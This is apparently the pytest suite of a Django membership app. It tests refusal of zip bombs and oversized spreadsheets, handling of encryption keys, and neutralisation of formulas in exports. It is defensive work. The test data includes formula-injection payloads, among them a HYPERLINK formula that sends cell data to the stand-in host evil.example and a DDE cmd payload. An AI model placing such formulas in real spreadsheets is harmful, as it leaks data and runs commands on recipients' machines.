"""Data safety: hostile spreadsheets are refused with bounded memory and time, user text is never taken for
ciphertext, the personal-data key is found in one place and checked against the database, and exports
neutralise formulas."""
import datetime
import io
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from gonghui.core import crypto, keys, spreadsheet
from gonghui.core.models import KeyCheck
from gonghui.core.spreadsheet import Refused, read_table
from gonghui.members import exporting, importing
from gonghui.members.models import Member

from .conftest import login
from .fixtures import instance
from .fixtures.hostile import CONTENT_TYPES as _CT
from .fixtures.hostile import HEADER, cell, far_cell, workbook, zip_bomb
from .fixtures.rosters import as_rows, person, write_xlsx
from .mutualaid_fixtures import enrolled, plan  # noqa: F401 — fixtures

ROOT = Path(__file__).resolve().parent.parent

def refusal(path):
    with pytest.raises(Refused) as caught:
        read_table(path)
    (problem,) = caught.value.problems
    return problem.message


# ---------------------------------------------------------------------------------------------
# 1. Spreadsheets are read with bounded memory and time
# ---------------------------------------------------------------------------------------------

def test_a_cell_at_xfd1048576_is_refused_in_seconds_naming_the_row_limit(tmp_path):
    start = time.monotonic()
    message = refusal(far_cell(tmp_path / "far.xlsx"))
    assert time.monotonic() - start < 5
    assert "第1048576行" in message and "200000行的上限" in message


def test_a_cell_far_to_the_right_is_refused_naming_the_column_limit(tmp_path):
    message = refusal(far_cell(tmp_path / "wide.xlsx", "ZZ20000"))
    assert "ZZ列" in message and "64列的上限" in message


def test_a_sparse_sheet_within_rows_and_columns_is_refused_by_its_area(tmp_path, settings):
    settings.GONGHUI_MAX_IMPORT_CELLS = 100_000
    message = refusal(far_cell(tmp_path / "area.xlsx", "BL5000"))
    assert "A1:BL5000" in message and "100,000个单元格的上限" in message


def test_the_declared_dimension_is_never_trusted(tmp_path):
    path = workbook(tmp_path / "dim.xlsx", HEADER + f'<row r="2">{cell("A2", "王强")}</row>',
                    dimension="A1:XFD1048576")
    assert read_table(path).rows == [["姓名", "身份证号"], ["王强", ""]]


def test_a_zip_bomb_is_refused_by_the_bytes_it_unpacks_not_the_sizes_it_declares(tmp_path, settings):
    settings.GONGHUI_MAX_IMPORT_UNPACKED = 20 * 1024 * 1024
    path = zip_bomb(tmp_path / "bomb.xlsx", 30)
    assert path.stat().st_size < 1024 * 1024
    message = refusal(path)
    assert "解压后超过 20 MB" in message or "压缩比异常" in message


def test_a_part_that_lies_about_its_size_is_still_measured(tmp_path, settings):
    import struct

    settings.GONGHUI_MAX_IMPORT_UNPACKED = 8 * 1024 * 1024
    path = workbook(tmp_path / "liar.xlsx", HEADER)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings.xml", b"<sst>" + b"<si><t>AAAA</t></si>" * 800_000 + b"</sst>")
    data = bytearray(path.read_bytes())
    # Declare 1 KB instead of ~15 MB, in the local header and in the central directory.
    with zipfile.ZipFile(path) as z:
        info = z.getinfo("xl/sharedStrings.xml")
    struct.pack_into("<I", data, info.header_offset + 22, 1024)
    central = data.rindex(b"PK\x01\x02" + data[data.rindex(b"PK\x01\x02") + 4:data.rindex(b"PK\x01\x02") + 6])
    for offset in [i for i in range(len(data)) if data[i:i + 4] == b"PK\x01\x02"]:
        name_len = struct.unpack_from("<H", data, offset + 28)[0]
        if data[offset + 46:offset + 46 + name_len] == b"xl/sharedStrings.xml":
            struct.pack_into("<I", data, offset + 24, 1024)
    assert central
    path.write_bytes(bytes(data))
    message = refusal(path)
    assert message in (spreadsheet.NOT_A_TABLE,) or "上限" in message or "压缩比" in message


def test_a_csv_over_the_row_limit_is_refused_while_reading(tmp_path, settings):
    settings.GONGHUI_MAX_IMPORT_ROWS = 50
    path = tmp_path / "long.csv"
    path.write_text("姓名,身份证号\n" + "王强,1\n" * 100, encoding="utf-8")
    assert "超过50行的上限" in refusal(path)


def test_a_file_over_the_size_limit_is_refused_before_it_is_opened(tmp_path, settings):
    settings.GONGHUI_MAX_IMPORT_BYTES = 1024
    path = tmp_path / "big.csv"
    path.write_bytes(b"a,b\n" * 1000)
    assert "文件太大" in refusal(path)


def test_the_roster_import_refuses_the_far_cell_file_with_one_chinese_message_and_writes_nothing(
        tmp_path, users, tree):
    before = Member.objects.count()
    result = importing.run_import(users.chair, tree.school, far_cell(tmp_path / "far.xlsx"))
    assert not result.ok and len(result.problems) == 1 and "上限" in result.problems[0].message
    assert Member.objects.count() == before


def test_the_command_line_prints_the_limit_instead_of_a_traceback(tmp_path, admin_user, tree):
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError) as failed:
        call_command("import_members", str(far_cell(tmp_path / "far.xlsx")), "--org", "SCH", stdout=out, stderr=err)
    assert failed.value.returncode == 1
    assert "200000行的上限" in out.getvalue() and "Traceback" not in out.getvalue() + err.getvalue()


def test_a_refused_file_gets_no_annotated_copy_so_the_bomb_is_never_opened_again(tmp_path, users, tree):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = far_cell(tmp_path / "far.xlsx").read_bytes()
    job = importing.start_import_job(users.chair, tree.school, SimpleUploadedFile("far.xlsx", data))
    job.refresh_from_db()
    assert job.status == job.Status.DONE and job.result["ok"] is False
    assert "上限" in job.result["problems"][0]["message"] and job.output_file == ""


# No database (a file and a fresh process): it runs in the SQLite run only (scripts/test).
@pytest.mark.sqlite_only
def test_reading_the_hostile_files_keeps_memory_flat(tmp_path):
    """In a fresh process: the far-cell file, a zip bomb and an oversize file cost < 200 MB together."""
    far_cell(tmp_path / "far.xlsx")
    zip_bomb(tmp_path / "bomb.xlsx", 400)
    with open(tmp_path / "big.xlsx", "wb") as f:
        f.write(b"PK\x03\x04")
        f.seek(50 * 1024 * 1024)
        f.write(b"\0")
    script = (
        "import resource, sys, django; django.setup()\n"
        "from gonghui.core.spreadsheet import Refused, read_table\n"
        "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "for name in sys.argv[1:]:\n"
        "    try:\n"
        "        read_table(name); print('read', name)\n"
        "    except Refused as exc:\n"
        "        print('refused', exc.problems[0].message)\n"
        "print('grew_kb', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base)\n")
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "gonghui.settings", "GONGHUI_VAR": str(tmp_path)}
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-c", script, *(str(tmp_path / n) for n in ("far.xlsx", "bomb.xlsx",
                                                                                    "big.xlsx"))],
                          env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert [line.split()[0] for line in lines[:3]] == ["refused"] * 3
    grew_mb = int(lines[-1].split()[1]) / 1024
    assert grew_mb < 200
    assert time.monotonic() - start < 60


# ---------------------------------------------------------------------------------------------
# 2. Ciphertext is recognised by type, never by the text's prefix
# ---------------------------------------------------------------------------------------------

FORGED = "v1:" + "A" * 32


@pytest.mark.parametrize("text", [FORGED, "v1:", "v1:hello", "普通文字", "v2:x"])
def test_any_user_text_round_trips_through_an_encrypted_field(members, text):
    Member.objects.filter(pk=members.wang.pk).update(post=text, phone=text)
    assert Member.objects.get(pk=members.wang.pk).phone == text
    with connection.cursor() as cur:
        cur.execute("SELECT phone FROM members_member WHERE id = %s", [members.wang.pk])
        stored = cur.fetchone()[0]
    assert stored != text and crypto.decrypt(stored) == text


def test_only_values_made_by_encrypt_are_stored_as_they_are():
    from gonghui.core.fields import EncryptedTextField

    field = EncryptedTextField()
    made = crypto.encrypt("王强")
    assert isinstance(made, crypto.Ciphertext) and field.get_prep_value(made) == made
    assert field.get_prep_value(str(made)) != str(made)  # plain str with the same text: encrypted again


def test_a_claim_whose_diagnosis_looks_like_ciphertext_is_stored_encrypted_and_pages_keep_working(
        client, users, members, enrolled):
    from gonghui.mutualaid import actions
    from gonghui.mutualaid.models import Claim

    claim = actions.submit_claim(users.officer, enrolled[members.zhao.pk], amount="100",
                                 incident_date=datetime.date(2026, 11, 1), diagnosis=FORGED)
    assert Claim.objects.get(pk=claim.pk).diagnosis == FORGED
    login(client, users.chair)
    assert client.get(reverse("mutualaid:claims")).status_code == 200
    assert client.get(reverse("mutualaid:claim", args=[claim.pk])).status_code == 200
    assert client.get("/api/mutual-aid/aid-claims/").status_code == 200


def test_the_repair_encrypts_rows_stored_in_clear_and_leaves_ciphertext_alone(members):
    with connection.cursor() as cur:
        cur.execute("UPDATE members_member SET phone = %s WHERE id = %s", [FORGED, members.wang.pk])
        cur.execute("SELECT phone FROM members_member WHERE id = %s", [members.zhao.pk])
        untouched = cur.fetchone()[0]
    assert keys.encrypt_clear_text(connection, "members_member", "phone") == 1
    assert Member.objects.get(pk=members.wang.pk).phone == FORGED
    with connection.cursor() as cur:
        cur.execute("SELECT phone FROM members_member WHERE id = %s", [members.zhao.pk])
        assert cur.fetchone()[0] == untouched
    assert keys.encrypt_clear_text(connection, "members_member", "phone") == 0


def test_the_repair_refuses_to_run_with_a_key_that_is_not_the_datas(members, settings):
    settings.GONGHUI_DATA_KEY = keys.new_key()
    with pytest.raises(crypto.KeyProblem):
        keys.encrypt_clear_text(connection, "members_member", "phone")


# ---------------------------------------------------------------------------------------------
# 3. The key: one configured place, a check value, refusal in Chinese
# ---------------------------------------------------------------------------------------------

def test_the_database_keeps_a_check_value_of_the_key_not_the_key(db, settings):
    stored = KeyCheck.objects.get(name="data").value
    assert stored == crypto.check_value(settings.GONGHUI_DATA_KEY)
    assert settings.GONGHUI_DATA_KEY not in stored


def test_a_wrong_key_is_refused(members, settings):
    settings.GONGHUI_DATA_KEY = keys.new_key()
    with pytest.raises(crypto.KeyProblem, match="与数据库不符"):
        keys.ensure_ready()


def test_a_wrong_key_is_refused_by_the_data_even_before_a_check_value_exists(members, settings):
    KeyCheck.objects.all().delete()
    settings.GONGHUI_DATA_KEY = keys.new_key()
    with pytest.raises(crypto.KeyProblem, match="解不开"):
        keys.ensure_ready()
    assert not KeyCheck.objects.exists()


def test_an_old_database_gets_its_check_value_once_the_key_decrypts_its_data(members, settings):
    KeyCheck.objects.all().delete()
    keys.ensure_ready()
    assert KeyCheck.objects.get(name="data").value == crypto.check_value(settings.GONGHUI_DATA_KEY)


def test_a_missing_key_is_refused_when_the_database_holds_personal_data(members, settings, tmp_path):
    settings.GONGHUI_DATA_KEY = None
    settings.GONGHUI_DATA_KEY_FILE = tmp_path / "data.key"
    with pytest.raises(crypto.KeyProblem, match="找不到个人信息密钥"):
        keys.ensure_ready()
    assert not (tmp_path / "data.key").exists()


def test_a_new_key_is_made_only_for_an_empty_database(db, settings, tmp_path):
    KeyCheck.objects.all().delete()
    settings.GONGHUI_DATA_KEY = None
    settings.GONGHUI_DATA_KEY_FILE = tmp_path / "var" / "data.key"
    made = keys.ensure_ready()
    assert (tmp_path / "var" / "data.key").read_text().strip() == made
    assert oct((tmp_path / "var" / "data.key").stat().st_mode & 0o777) == "0o600"
    assert KeyCheck.objects.get(name="data").value == crypto.check_value(made)


@pytest.mark.parametrize("bad", ["short", "!" * 44, "dGVzdA=="])
def test_a_malformed_key_is_refused_in_chinese(db, settings, bad):
    settings.GONGHUI_DATA_KEY = bad
    with pytest.raises(crypto.KeyProblem, match="格式不对"):
        keys.ensure_ready()


# No database (settings read in a fresh process): it runs in the SQLite run only (scripts/test).
@pytest.mark.sqlite_only
def test_the_data_directory_never_follows_the_current_directory(tmp_path):
    env = {k: v for k, v in os.environ.items() if k not in ("GONGHUI_HOME", "GONGHUI_VAR", "GONGHUI_DATA_KEY")}
    env["DJANGO_SETTINGS_MODULE"] = "gonghui.settings"
    done = subprocess.run([sys.executable, "-c", "from django.conf import settings; print(settings.VAR_DIR)"],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert Path(done.stdout.strip()) == ROOT / "var"
    assert not (tmp_path / "var").exists()


def _gonghui(tmp_path, var, *args, key=None):
    return instance.run(tmp_path, *args, var=var, key=key)


# On its own SQLite instance whatever the suite's database: it runs in the SQLite run only (scripts/test).
@pytest.mark.sqlite_only
def test_commands_refuse_to_start_without_the_key_or_with_a_wrong_or_malformed_one(tmp_path):
    home = tmp_path / "home"
    instance.create(tmp_path, var=home)
    assert (home / "data.key").exists()  # the empty database got a new key
    roster = write_xlsx(tmp_path / "good.xlsx", as_rows([person(1)]))
    assert _gonghui(tmp_path, home, "import-members", str(roster), "--org", "SCH").returncode == 0

    elsewhere = tmp_path / "elsewhere"
    missing = _gonghui(tmp_path, elsewhere, "import-members", str(roster), "--org", "SCH", "--update")
    assert missing.returncode == 2 and "找不到个人信息密钥" in missing.stderr
    assert not (elsewhere / "data.key").exists()  # no second key is ever made

    wrong = _gonghui(tmp_path, elsewhere, "serve", "--no-worker", key=keys.new_key())
    assert wrong.returncode == 2 and "与数据库不符" in wrong.stderr

    malformed = _gonghui(tmp_path, home, "check", key="not-a-key")
    assert malformed.returncode == 2 and "格式不对" in malformed.stderr


# ---------------------------------------------------------------------------------------------
# 4. Exports neutralise formulas
# ---------------------------------------------------------------------------------------------

PREFIXED = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(A1)",
            "\tTAB", "\rCR"]


def _cells(data):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", PREFIXED)
def test_a_members_post_with_a_formula_prefix_is_exported_as_text(users, members, text):
    Member.objects.filter(pk=members.wang.pk).update(post=text)
    out = io.BytesIO()
    exporting.export_members(users.chair, Member.objects.filter(pk=members.wang.pk), out)
    cells = _cells(out.getvalue())
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + text in [c.value for c in cells]


@pytest.mark.parametrize("text", PREFIXED)
def test_a_notice_title_with_a_formula_prefix_is_exported_as_text(client, users, tree, text):
    from .notices_fixtures import draft

    draft(users.officer, tree.school, title=text.strip() or text)
    login(client, users.officer)
    response = client.get(reverse("notices:export") + "?org=SCH")
    cells = _cells(response.content)
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(spreadsheet.FORMULA_PREFIXES)]


def test_a_neutralised_value_reads_back_as_the_original_on_import():
    for text in PREFIXED:
        assert spreadsheet.unescape_cell(spreadsheet.safe_cell(text)) == text
    assert spreadsheet.safe_cell(-3) == -3 and spreadsheet.safe_cell("王强") == "王强"


# ---------------------------------------------------------------------------------------------
# The service stays up: the reader runs in the worker process, never in the web server
# ---------------------------------------------------------------------------------------------

def _free_port():
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _multipart(fields, files):
    boundary = "----gonghui-test-boundary"
    body = io.BytesIO()
    for name, value in fields.items():
        body.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for name, (filename, data) in files.items():
        body.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                   "Content-Type: application/octet-stream\r\n\r\n".encode())
        body.write(data)
        body.write(b"\r\n")
    body.write(f"--{boundary}--\r\n".encode())
    return body.getvalue(), f"multipart/form-data; boundary={boundary}"


def _peak_kb(pid):
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


# On its own SQLite instance whatever the suite's database: it runs in the SQLite run only (scripts/test).
@pytest.mark.sqlite_only
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads the worker's peak memory from /proc")
def test_hostile_uploads_fail_in_the_worker_process_while_the_web_server_keeps_answering(tmp_path):
    import json
    import urllib.request

    home = tmp_path / "home"
    instance.create(tmp_path, var=home)
    port = _free_port()
    env = instance.environment(tmp_path, home)
    server = subprocess.Popen([str(instance.GONGHUI), "serve", "--port", str(port)],
                              env=env, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"

    def call(path, data=None, content_type=None):
        request = urllib.request.Request(base + path, data=data, headers={"Authorization": "Token " + instance.TOKEN})
        if content_type:
            request.add_header("Content-Type", content_type)
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()

    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if call("/api/jobs/")[0] == 200:
                    break
            except OSError:
                pass
            assert time.monotonic() < deadline, "the server did not start"
            time.sleep(0.3)
        children = Path(f"/proc/{server.pid}/task/{server.pid}/children").read_text().split()

        def command(pid):
            return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()

        # the job worker is a process of its own, beside the web server's (gunicorn's) processes
        workers = [int(pid) for pid in children if " worker" in command(pid) and "gunicorn" not in command(pid)]
        assert len(workers) == 1, [command(pid) for pid in children]
        worker = workers[0]
        time.sleep(2)  # let the worker finish importing Django
        before = _peak_kb(worker)

        far_cell(tmp_path / "far.xlsx")
        zip_bomb(tmp_path / "bomb.xlsx", 400)
        big = tmp_path / "big.xlsx"
        with open(big, "wb") as f:
            f.write(b"PK\x03\x04")
            f.seek(50 * 1024 * 1024)
            f.write(b"\0")
        for name in ("far.xlsx", "bomb.xlsx", "big.xlsx"):
            body, ctype = _multipart({"org": "SCH"}, {"file": (name, (tmp_path / name).read_bytes())})
            status, content = call("/api/members/import/", body, ctype)
            assert status == 202
            job_url = json.loads(content)["status_url"].replace(base, "")
            deadline = time.monotonic() + 60
            while True:
                assert call("/api/jobs/")[0] == 200  # the web server keeps answering meanwhile
                job = json.loads(call(job_url)[1])
                if job["status"] in ("done", "failed"):
                    break
                assert time.monotonic() < deadline, f"{name} was not refused within a minute"
                time.sleep(0.2)
            problems = job["result"].get("problems") or [{"message": job.get("error", "")}]
            assert job["result"].get("ok") is False and ("上限" in problems[0]["message"]
                                                       or "压缩比" in problems[0]["message"]), job
        assert (_peak_kb(worker) - before) / 1024 < 200
        assert server.poll() is None
    finally:
        server.terminate()
        server.wait(timeout=20)



def test_a_score_sheet_bomb_is_refused_before_openpyxl_reads_it(tmp_path):
    from gonghui.contests.documents import read_score_sheet
    from gonghui.core.errors import ActionError

    data = zip_bomb(tmp_path / "bomb.xlsx", 30).read_bytes()
    with pytest.raises(ActionError) as refused:
        read_score_sheet(None, data)
    assert "上限" in str(refused.value.message_dict) or "压缩比" in str(refused.value.message_dict)


def test_a_docx_bomb_is_refused_before_python_docx_reads_it(tmp_path):
    from gonghui.core.errors import ActionError
    from gonghui.plans.parsing import parse_file

    path = tmp_path / "plan.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        with z.open("word/document.xml", "w") as part:
            for _ in range(30):
                part.write(b"<w:p/>" * 200_000)
    with pytest.raises(ActionError) as refused:
        parse_file("plan.docx", path.read_bytes())
    assert "上限" in str(refused.value.message_dict) or "压缩比" in str(refused.value.message_dict)


def test_column_letters_and_indexes_are_inverse():
    for index in (0, 25, 26, 63, 701, 702, 16383):
        assert spreadsheet.column_index(spreadsheet.column_letter(index)) == index
    assert spreadsheet.column_letter(16383) == "XFD"
